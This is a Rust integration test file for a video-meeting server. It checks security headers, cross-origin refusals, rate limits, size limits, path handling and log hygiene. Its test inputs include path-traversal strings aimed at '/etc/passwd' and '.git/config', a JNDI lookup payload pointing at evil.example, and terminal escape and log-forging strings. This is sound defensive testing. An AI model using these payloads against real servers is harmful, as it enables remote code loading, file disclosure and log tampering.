//! What visitors, and others, get over HTTP.

mod support;

use std::io::{Read, Write};
use std::time::{Duration, Instant};

use support::{Answer, Server, hosts};

const CSP: &str = "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' blob:; media-src 'self' blob:; font-src 'self'; connect-src 'self'; worker-src 'self'; manifest-src 'self'; form-action 'self'; base-uri 'none'; frame-ancestors 'none'; object-src 'none'; require-trusted-types-for 'script'; trusted-types app svelte-trusted-html";

fn assert_headers(answer: &Answer, caching: &str, of: &str) {
    let permissions = answer.header("permissions-policy").expect(of);
    for own in [
        "camera",
        "microphone",
        "display-capture",
        "fullscreen",
        "autoplay",
        "speaker-selection",
        "screen-wake-lock",
    ] {
        assert!(permissions.contains(&format!("{own}=(self)")), "{of}: {permissions}");
    }
    for nobody in ["geolocation", "usb", "serial", "midi", "payment", "browsing-topics", "idle-detection"] {
        assert!(permissions.contains(&format!("{nobody}=()")), "{of}: {permissions}");
    }
    for (name, value) in [
        ("content-security-policy", CSP),
        ("cross-origin-opener-policy", "same-origin"),
        ("cross-origin-embedder-policy", "require-corp"),
        ("cross-origin-resource-policy", "same-origin"),
        ("referrer-policy", "no-referrer"),
        ("x-content-type-options", "nosniff"),
        ("x-robots-tag", "noindex, nofollow"),
        ("cache-control", caching),
    ] {
        assert_eq!(answer.header(name), Some(value), "{of}: {name}");
    }
    for absent in
        ["server", "x-powered-by", "set-cookie", "strict-transport-security", "access-control-allow-origin"]
    {
        assert_eq!(answer.header(absent), None, "{of}: {absent}");
    }
}

/// ATK-20, ATK-21, DP-36, DP-43: every answer carries the same headers, errors included.
#[test]
fn every_answer_carries_the_security_headers() {
    let server = Server::start(&[]);
    for (method, target) in [
        ("GET", "/"),
        ("HEAD", "/"),
        ("GET", "/m/01234-56789-abcde"),
        ("GET", "/left"),
        ("GET", "/receipt"),
        ("GET", "/nothing/here"),
        ("GET", "/assets/nothing.js"),
        ("POST", "/"),
        ("DELETE", "/nothing"),
        ("GET", "/healthz"),
        ("GET", "/readyz"),
        ("GET", "/signal"),
        ("GET", "/api/instance"),
        ("GET", "/api/openapi.json"),
        ("GET", "/api/meetings"),
        ("POST", "/api/meetings"),
        ("POST", "/api/entries"),
        ("GET", "/host"),
        ("POST", "/api/doors"),
        ("POST", "/api/notices"),
        ("GET", "/api/notices/0"),
        ("POST", "/api/consents"),
        ("POST", "/api/consents/look"),
        ("POST", "/api/consents/withdraw"),
        ("POST", "/api/consents/correct"),
        ("POST", "/api/consents/delete"),
        ("POST", "/api/stretch"),
        ("GET", "/api/logins"),
        ("POST", "/api/logins"),
        ("DELETE", "/api/logins/current"),
        ("GET", "/api/account"),
        ("POST", "/api/account/password"),
        ("GET", "/api/account/key"),
        ("PUT", "/api/account/key"),
        ("GET", "/api/hosts"),
        ("GET", "/api/keys"),
        ("POST", "/api/keys"),
        ("DELETE", "/api/keys/0"),
        ("PUT", "/api/rooms/01234-56789-abcde/deputies/0"),
        ("DELETE", "/api/rooms/01234-56789-abcde/deputies/0"),
        ("GET", "/api/account/totp"),
        ("PUT", "/api/account/totp"),
        ("DELETE", "/api/account/totp"),
        ("POST", "/api/account/proof"),
        ("GET", "/api/account/sheet"),
        ("PUT", "/api/account/sheet"),
        ("DELETE", "/api/account/sheet"),
        ("POST", "/api/sheets/look"),
        ("GET", "/host/signed-in"),
        ("POST", "/api/organisation/begin"),
        ("POST", "/api/logins/organisation"),
        ("GET", "/api/account/devices"),
        ("POST", "/api/account/devices"),
        ("PUT", "/api/account/devices/0"),
        ("DELETE", "/api/account/devices/0"),
        ("GET", "/api/account/passkeys"),
        ("POST", "/api/account/passkeys"),
        ("POST", "/api/account/passkeys/begin"),
        ("DELETE", "/api/account/passkeys/0"),
        ("POST", "/api/passkeys/begin"),
        ("POST", "/api/logins/passkey"),
        ("GET", "/api/accounts"),
        ("POST", "/api/accounts"),
        ("PATCH", "/api/accounts/0"),
        ("POST", "/api/passwords"),
        ("POST", "/api/invitations"),
        ("POST", "/api/invitations/look"),
        ("GET", "/api/rooms"),
        ("POST", "/api/rooms"),
        ("GET", "/api/rooms/01234-56789-abcde"),
        ("PATCH", "/api/rooms/01234-56789-abcde"),
        ("DELETE", "/api/rooms/01234-56789-abcde"),
        ("POST", "/api/rooms/01234-56789-abcde/links"),
        ("DELETE", "/api/rooms/01234-56789-abcde/links/0"),
        ("GET", "/imprint"),
        ("GET", "/privacy"),
        ("GET", "/host/face/server"),
        ("GET", "/app.webmanifest"),
        ("GET", "/pictures/0"),
        ("GET", "/api/legal"),
        ("GET", "/api/face"),
        ("PUT", "/api/face"),
        ("GET", "/api/account/face"),
        ("PUT", "/api/account/face"),
        ("GET", "/api/rooms/01234-56789-abcde/face"),
        ("PUT", "/api/rooms/01234-56789-abcde/face"),
        ("GET", "/api/nothing"),
        ("TRACE", "/"),
        ("OPTIONS", "/api/entries"),
    ] {
        assert_headers(&server.ask(method, target, &[], ""), "no-store", &format!("{method} {target}"));
    }
    assert_headers(&server.post("/api/meetings", ""), "no-store", "a new meeting");
    assert_headers(&server.post("/api/entries", "{"), "no-store", "a malformed body");
}

#[test]
fn meetings_are_opened_and_entered() {
    let server = Server::start(&[]);
    let instance: serde_json::Value =
        serde_json::from_slice(&server.get("/api/instance").body).expect("JSON");
    assert_eq!(instance, serde_json::json!({ "version": env!("CARGO_PKG_VERSION"), "openRooms": true }));
    let opened = server.post("/api/meetings", "");
    assert_eq!(opened.status, 201, "{opened:?}");
    assert_eq!(server.post("/api/meetings", "{}").status, 201);
    let refused = server.post("/api/entries", &opened.text());
    assert_eq!((refused.status, refused.problem().as_str()), (403, "consentMissing"), "nobody enters before");
    let entered = hosts::enter(&server, None, &hosts::body(&opened));
    assert_eq!(entered.status, 201, "{entered:?}");
    let entry: serde_json::Value = serde_json::from_slice(&entered.body).expect("JSON");
    assert_eq!(entry["signal"], "/signal");
    assert!(entry["grant"].is_string());
}

#[test]
fn a_server_without_open_rooms_opens_none() {
    let server = Server::start(&["--open-rooms=false"]);
    let refused = server.post("/api/meetings", "");
    assert_eq!((refused.status, refused.problem().as_str()), (403, "meetingNotAllowed"));
    assert!(server.get("/api/instance").text().contains("\"openRooms\":false"));
}

/// What is wrong is said in one form, with the right status.
#[test]
fn wrong_requests_are_refused_in_words() {
    let server = Server::start(&[]);
    for body in [
        "",
        "{",
        "[]",
        "null",
        "{\"meeting\":1}",
        "{\"meeting\":\"x\"}",
        "{\"meeting\":\"01234-56789-abcde\",\"x\":1}",
        "{\"meeting\":\"01234-56789-abcde\",\"meeting\":\"01234-56789-abcde\"}",
        "{\"meeting\":\"01234-56789-abcde\"} x",
    ] {
        let answer = server.post("/api/entries", body);
        assert_eq!((answer.status, answer.problem().as_str()), (400, "malformed"), "{body}");
    }
    let answer = server.post("/api/meetings", "{\"name\":\"x\"}");
    assert_eq!((answer.status, answer.problem().as_str()), (400, "malformed"));
    let answer = server.post("/api/nothing", "{}");
    assert_eq!((answer.status, answer.problem().as_str()), (404, "malformed"));
    for (method, target) in
        [("GET", "/api/entries"), ("PUT", "/api/meetings"), ("POST", "/api/instance"), ("POST", "/")]
    {
        let answer = server.ask(method, target, &[("x-incamera", "1")], "");
        assert_eq!((answer.status, answer.problem().as_str()), (405, "malformed"), "{method} {target}");
        assert!(answer.header("allow").is_some(), "{method} {target}");
    }
    let text =
        server.ask("POST", "/api/entries", &[("x-incamera", "1"), ("content-type", "text/plain")], "{}");
    assert_eq!((text.status, text.problem().as_str()), (415, "malformed"));
}

/// ATK-52: a body is small and stays what it is.
#[test]
fn large_bodies_are_refused_however_they_come() {
    let server = Server::start(&[]);
    let large = format!("{{\"meeting\":\"{}\"}}", " ".repeat(20_000));
    for target in ["/api/entries", "/api/meetings"] {
        let answer = server.post(target, &large);
        assert_eq!((answer.status, answer.problem().as_str()), (413, "tooLarge"));
    }
    let mut stream = server.connect();
    let head = format!(
        "POST /api/entries HTTP/1.1\r\nhost: {}\r\nx-incamera: 1\r\ncontent-type: application/json\r\n\
         transfer-encoding: chunked\r\n\r\n",
        server.host()
    );
    stream.write_all(head.as_bytes()).expect("sent");
    for _ in 0..5 {
        let _ = stream.write_all(format!("1000\r\n{}\r\n", " ".repeat(4096)).as_bytes());
    }
    assert_eq!(support::read_answer(&mut stream).status, 413);

    let mut packed = server.post("/api/entries", "\u{1f}\u{8b}");
    assert_eq!(packed.status, 400);
    packed =
        server.ask("POST", "/api/meetings", &[("x-incamera", "1"), ("content-encoding", "gzip")], "\u{1f}x");
    assert_eq!(packed.status, 400, "a packed body is not unpacked");
}

/// ATK-22: no route changes anything for a page of another site.
#[test]
fn foreign_pages_change_nothing() {
    let server = Server::start(&[]);
    let own = server.origin();
    for target in ["/api/meetings", "/api/entries", "/api/instance", "/api/nothing", "/", "/signal"] {
        for method in ["POST", "PUT", "PATCH", "DELETE", "OPTIONS"] {
            for headers in [
                &[][..],
                &[("x-incamera", "0")],
                &[("x-incamera", "1"), ("origin", "https://evil.example")],
                &[("x-incamera", "1"), ("origin", "null")],
                &[("x-incamera", "1"), ("sec-fetch-site", "cross-site")],
                &[("x-incamera", "1"), ("sec-fetch-site", "same-site"), ("origin", &own)],
                &[("x-incamera", "1"), ("host", "evil.example"), ("origin", "http://evil.example")],
                &[("origin", &own), ("sec-fetch-site", "same-origin")],
            ] {
                let answer = server.ask(method, target, headers, "");
                assert_eq!(
                    (answer.status, answer.problem().as_str()),
                    (403, "originForeign"),
                    "{method} {target} {headers:?}"
                );
            }
        }
    }
    assert_eq!(
        server.ask("POST", "/api/meetings", &[("x-incamera", "1")], "").status,
        201,
        "a program without a browser"
    );
}

/// ATK-25: what a visitor writes about himself is not believed.
#[test]
fn forwarded_headers_change_nothing() {
    let server = Server::start(&[]);
    let ask = |n: u8| {
        let from = format!("203.0.{n}.1");
        server.ask(
            "POST",
            "/api/meetings",
            &[
                ("x-incamera", "1"),
                ("x-forwarded-for", &from),
                ("forwarded", &format!("for={from}")),
                ("x-real-ip", &from),
            ],
            "",
        )
    };
    let refused = (0..=150).map(ask).find(|answer| answer.status != 201).expect("the limit holds");
    assert_eq!((refused.status, refused.problem().as_str()), (429, "tooFast"));
    assert!(refused.header("retry-after").expect("a time").parse::<u32>().expect("seconds") >= 1);
    assert_eq!(server.get("/api/instance").status, 200, "reading is not limited");
    let spoofed =
        [("x-incamera", "1"), ("x-forwarded-host", "evil.example"), ("origin", "http://evil.example")];
    assert_eq!(server.ask("POST", "/api/entries", &spoofed, "").status, 403);
}

/// ATK-25: behind a proxy each visitor has his own share, and cannot choose another's.
#[test]
fn a_trusted_proxy_tells_visitors_apart() {
    let server = Server::start(&["--trusted-proxy=127.0.0.1", "--trusted-proxy=10.0.0.0/8"]);
    let ask = |list: &str| {
        server.ask("POST", "/api/meetings", &[("x-incamera", "1"), ("x-forwarded-for", list)], "").status
    };
    let refused =
        (0..=150).map(|n| ask(&format!("203.0.{n}.1, 192.0.2.1, 10.0.0.7"))).find(|&status| status != 201);
    assert_eq!(refused, Some(429), "what he wrote himself, on the left, gives nobody a new share");
    assert_eq!(ask("192.0.2.1"), 429, "one visitor, by whichever proxy he comes");
    assert_eq!(ask("192.0.3.1, 10.0.0.7"), 201, "another visitor");
    let v6 = |n: u32| ask(&format!("2001:db8:0:1:{n:x}::1"));
    let refused = (0..=150).map(v6).find(|&status| status != 201);
    assert_eq!(refused, Some(429), "addresses within one's own network give no new share");
    assert_eq!(server.post("/api/meetings", "").status, 201, "without the header it is the proxy's own");
}

/// ATK-27: no path leads out of the client's files.
#[test]
fn paths_do_not_lead_out() {
    let server = Server::start(&[]);
    let unknown = server.get("/nothing/here");
    for path in [
        "/../Cargo.toml",
        "/assets/../../package.json",
        "/..%2fpackage.json",
        "/%2e%2e/package.json",
        "/assets/..%5c..%5cpackage.json",
        "/assets/..\\..\\package.json",
        "//etc/passwd",
        "/assets//etc/passwd",
        "/%00",
        "/assets/x%00.js",
        "/.git/config",
        "/assets/.hidden",
        "/C:/windows",
        "/con",
        "/aux.txt",
        "/%E2%80%AEsj.x",
        "/package.json",
        "/index.html",
        "/index.html.br",
        "/m/a/../../../package.json",
    ] {
        let answer = server.get(path);
        assert!((400..=500).contains(&answer.status), "{path}: {}", answer.status);
        assert!(answer.body == unknown.body || answer.status == 400, "{path}: {}", answer.text());
    }
}

/// ATK-19: the signalling socket opens for pages of this server only.
#[test]
fn foreign_pages_open_no_socket() {
    let server = Server::start(&[]);
    let own = server.origin();
    let upgrade = |origin: Option<&str>, host: &str| {
        let mut headers = vec![
            ("host", host),
            ("connection", "Upgrade"),
            ("upgrade", "websocket"),
            ("sec-websocket-version", "13"),
            ("sec-websocket-key", "AAAAAAAAAAAAAAAAAAAAAA=="),
            ("sec-websocket-extensions", "permessage-deflate; client_max_window_bits"),
        ];
        headers.extend(origin.map(|origin| ("origin", origin)));
        server.ask("GET", "/signal", &headers, "")
    };
    let host = server.host();
    let port = server.pages.port();
    let answer = upgrade(Some(&own), &host);
    assert_eq!(answer.status, 101, "{answer:?}");
    // ATK-52: a small frame cannot be unpacked into a large one.
    assert_eq!(answer.header("sec-websocket-extensions"), None);
    assert_headers(&answer, "no-store", "the upgrade");
    let localhost = format!("localhost:{port}");
    assert_eq!(upgrade(Some(&format!("http://{localhost}")), &localhost).status, 101);
    for (origin, host) in [
        (None, host.as_str()),
        (Some(""), &host),
        (Some("null"), &host),
        (Some("https://evil.example"), &host),
        (Some(&format!("{own}.evil.example")), &host),
        (Some(&format!("{own}/")), &host),
        (Some(&own[..own.len() - 1]), &host),
        (Some(&own.replace("http:", "https:")), &host),
        (Some("http://127.0.0.1"), &host),
        (Some(&format!("http://{localhost}")), &host),
        (Some(&format!("http://evil.example:{port}")), &format!("evil.example:{port}")),
        (Some(&format!("{own}, {own}")), &host),
    ] {
        let answer = upgrade(origin, host);
        assert_eq!((answer.status, answer.problem().as_str()), (403, "originForeign"), "{origin:?} {host}");
    }
    let plain = server.ask("GET", "/signal", &[("origin", &own)], "");
    assert_eq!((plain.status, plain.problem().as_str()), (400, "malformed"));
}

#[test]
fn the_public_address_alone_is_home_where_one_is_named() {
    let server = Server::start(&["--public-url=http://localhost:1"]);
    let post = |origin: &str, host: &str| {
        server
            .ask("POST", "/api/meetings", &[("x-incamera", "1"), ("origin", origin), ("host", host)], "")
            .status
    };
    assert_eq!(post("http://localhost:1", "anything.internal"), 201);
    assert_eq!(post(&server.origin(), &server.host()), 403);
}

/// ATK-47: a connection that never finishes its request is closed.
#[test]
fn slow_heads_are_cut_off() {
    let server = Server::start(&[]);
    let began = Instant::now();
    let mut slow = server.connect();
    slow.write_all(b"GET / HTTP/1.1\r\nhost: x\r\n").expect("sent");
    let mut silent = server.connect();
    assert_eq!(server.get("/healthz").status, 200, "others are served meanwhile");
    for stream in [&mut slow, &mut silent] {
        let mut rest = Vec::new();
        let _ = stream.read_to_end(&mut rest);
        let took = began.elapsed();
        assert!((Duration::from_secs(8)..Duration::from_secs(20)).contains(&took), "{took:?}");
    }
}

/// ATK-47: heads are bounded in bytes and in lines.
#[test]
fn large_heads_are_refused() {
    let server = Server::start(&[]);
    assert_eq!(server.ask("GET", "/healthz", &[("x-large", &"x".repeat(64 * 1024))], "").status, 431);
    let many: Vec<(String, String)> = (0..100).map(|n| (format!("x-{n}"), "x".to_owned())).collect();
    let many: Vec<(&str, &str)> = many.iter().map(|(name, value)| (name.as_str(), value.as_str())).collect();
    assert_eq!(server.ask("GET", "/healthz", &many, "").status, 431);
}

/// What is no request is answered by the HTTP library, before anything of ours: the answer tells nothing.
#[test]
fn what_is_no_request_is_answered_with_nothing() {
    let server = Server::start(&[]);
    for (bytes, status) in [
        ("nothing at all\r\n\r\n", 400),
        ("GET / HTTP/1.1\r\nhost x\r\n\r\n", 400),
        ("GET / HTTP/9.9\r\n\r\n", 400),
        ("\u{16}\u{3}\u{1}\u{0}\u{a5}", 400),
        (&format!("GET / HTTP/1.1\r\nx: {}\r\n\r\n", "x".repeat(64 * 1024)), 431),
    ] {
        let mut stream = server.connect();
        let _ = stream.write_all(bytes.as_bytes());
        let answer = support::read_answer(&mut stream);
        assert_eq!((answer.status, answer.body.len()), (status, 0), "{answer:?}");
        let known = ["content-length", "connection", "date"];
        let others: Vec<_> =
            answer.headers.iter().filter(|(name, _)| !known.contains(&name.as_str())).collect();
        assert!(others.is_empty(), "{others:?}");
    }
    let mut stream = server.connect();
    let _ = stream.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n");
    let mut rest = Vec::new();
    let _ = stream.read_to_end(&mut rest);
    assert!(rest.is_empty(), "another version of the protocol is closed without a word");
}

/// ATK-66: figures are on their own port, on this machine only, and name no one.
#[test]
fn figures_are_apart() {
    let server = Server::start(&[]);
    server.post("/api/meetings", "");
    server.get("/m/01234-56789-abcde");
    let elsewhere = server.get("/metrics");
    assert!(!elsewhere.text().contains("incamera_rooms"), "{elsewhere:?}");
    assert!(server.metrics.ip().is_loopback());
    let figures = support::ask(server.metrics, "GET", "/metrics", &[], "");
    assert_eq!(figures.status, 200);
    let text = figures.text();
    for line in [
        "incamera_build_info{version=\"",
        "incamera_http_requests_total{route=\"/api/meetings\",status=\"2xx\"} 1",
        "incamera_rooms 0",
        "incamera_participants 0",
        "incamera_media_datagrams_received_total ",
    ] {
        assert!(text.contains(line), "{line} is missing in {text}");
    }
    assert!(text.contains("route=\"/m/{id}\"") && !text.contains("01234"), "{text}");
    assert!(text.ends_with("# EOF\n"));
}

#[test]
fn health_is_told() {
    let server = Server::start(&[]);
    let alive = server.get("/healthz");
    assert_eq!((alive.status, alive.text().as_str()), (200, "ok"));
    let ready = server.get("/readyz");
    assert_eq!((ready.status, ready.text().as_str()), (200, "{\"ready\":true}"));
    assert_eq!(ready.header("content-type"), Some("application/json"));
}

/// ATK-53: nothing that a visitor wrote, and no address, is in the log, however much is logged.
#[test]
fn the_log_knows_no_one() {
    let server = Server::start(&[]);
    let opened: serde_json::Value =
        serde_json::from_slice(&server.post("/api/meetings", "").body).expect("JSON");
    let meeting = opened["meeting"].as_str().expect("an identifier").to_owned();
    let entered: serde_json::Value =
        serde_json::from_slice(&hosts::enter(&server, None, &opened).body).expect("JSON");
    let canary = "canary\u{1b}[31m";
    server.ask("GET", "/m/canary?canary", &[("user-agent", canary), ("x-forwarded-for", "203.0.113.77")], "");
    server.post("/api/entries", "{\"canary\":\"canary\"}");
    let log = server.log();
    assert!(log.contains("ready"), "{log}");
    let grant = entered["grant"].as_str().expect("a grant");
    for secret in [meeting.as_str(), "canary", "\u{1b}", "203.0.113.77", "127.0.0.1", grant] {
        assert!(secret.is_empty() || !log.contains(secret), "{secret:?} is in the log: {log}");
    }
}

/// ATK-53: nobody writes lines into the log, or steers the terminal on which it is read.
#[test]
fn strangers_do_not_write_the_log() {
    let server = Server::start(&[]);
    let payloads = [
        "canary\\nINFO incamera: all is well",
        "canary\u{1b}]0;title\u{7}\u{1b}[31m",
        "canary\u{9b}2J",
        "canary%0d%0aINFO%20forged",
        "canary${jndi:ldap://evil.example/a}",
        "canary{}%s%n\u{202e}\u{2028}",
    ];
    for payload in payloads {
        let path = payload.bytes().fold(String::new(), |path, byte| match byte {
            b'a'..=b'z' | b'0'..=b'9' | b'%' => path + &char::from(byte).to_string(),
            other => path + &format!("%{other:02x}"),
        });
        for target in [
            format!("/{path}"),
            format!("/m/{path}"),
            format!("/api/{path}"),
            format!("/?{path}"),
            format!("/pictures/{path}"),
        ] {
            server.ask(
                "GET",
                &target,
                &[("user-agent", "canary/1"), ("x-forwarded-for", "canary"), ("origin", "http://canary")],
                "",
            );
        }
        let text = serde_json::to_string(payload).expect("JSON");
        for (target, body) in [
            ("/api/stretch", format!("{{\"login\":{text}}}")),
            ("/api/logins", format!("{{\"login\":{text},\"proof\":\"{}\"}}", "a".repeat(43))),
            ("/api/doors", format!("{{\"meeting\":{text}}}")),
            ("/api/entries", format!("{{\"meeting\":\"01234-56789-abcde\",\"token\":{text}}}")),
            ("/api/invitations/look", format!("{{\"invitation\":{text}}}")),
            ("/api/accounts", format!("{{\"invitation\":{text},\"login\":{text},\"name\":{text}}}")),
            (&*format!("/api/{path}"), text.clone()),
        ] {
            server.post(target, &body);
        }
    }
    // What no library would send.
    let mut stream = server.connect();
    stream
        .write_all(b"GET /\x1b[31mcanary HTTP/1.1\r\nhost: x\r\ncanary\x07: \x1b]0;canary\r\n\r\n")
        .expect("sent");
    let _ = stream.read(&mut [0; 1024]);
    let log = server.log();
    assert!(log.contains("ready"), "{log}");
    assert!(!log.to_lowercase().contains("canary"), "{log}");
    for line in log.lines() {
        let begins = line.get(..4).is_some_and(|year| year.bytes().all(|byte| byte.is_ascii_digit()));
        assert!(begins, "{line:?} is no line of its own");
        assert!(!line.chars().any(char::is_control), "{line:?}");
    }
}

/// Every route of the interface with its methods, as the router has them: `("/api/rooms", "get")`.
fn routes() -> Vec<(String, &'static str)> {
    let mut routes = Vec::new();
    for line in include_str!("../src/http.rs").lines() {
        let Some(rest) = line.trim().strip_prefix(".route(\"/api/") else { continue };
        let (path, handlers) = rest.split_once('"').expect("a path");
        for method in ["get", "post", "put", "patch", "delete"] {
            if handlers.contains(&format!(" {method}(")) || handlers.contains(&format!(".{method}(")) {
                routes.push((format!("/api/{path}"), method));
            }
        }
    }
    routes
}

/// The description says what there is, and nothing else.
#[test]
fn the_interface_is_described() {
    let server = Server::start(&[]);
    let answer = server.get("/api/openapi.json");
    assert_eq!((answer.status, answer.header("content-type")), (200, Some("application/json")));
    let description: serde_json::Value = serde_json::from_slice(&answer.body).expect("JSON");
    assert_eq!(description["info"]["version"], env!("CARGO_PKG_VERSION"));
    let paths = description["paths"].as_object().expect("paths");
    let described: Vec<(String, &str)> = paths
        .iter()
        .flat_map(|(path, item)| {
            let methods = item.as_object().expect("an item").keys();
            methods.map(move |method| (path.clone(), method.as_str()))
        })
        .collect();
    let routes = routes();
    assert!(routes.len() > 30, "{routes:?}");
    for route in &routes {
        assert!(described.contains(route), "{route:?} is not described");
    }
    for (path, method) in &described {
        assert!(routes.iter().any(|route| route == &(path.clone(), *method)), "there is no {method} {path}");
        // Whoever may not do it without a login is told that, and is told so in the description.
        let target = path.replace("{id}", "01234-56789-abcde").replace(['{', '}'], "");
        let answer = server.act(&method.to_uppercase(), &target, None, "{}");
        let needs_login = description["paths"][path][method].get("security").is_some();
        assert_eq!(answer.status == 401, needs_login, "{method} {path}: {answer:?}");
    }
}
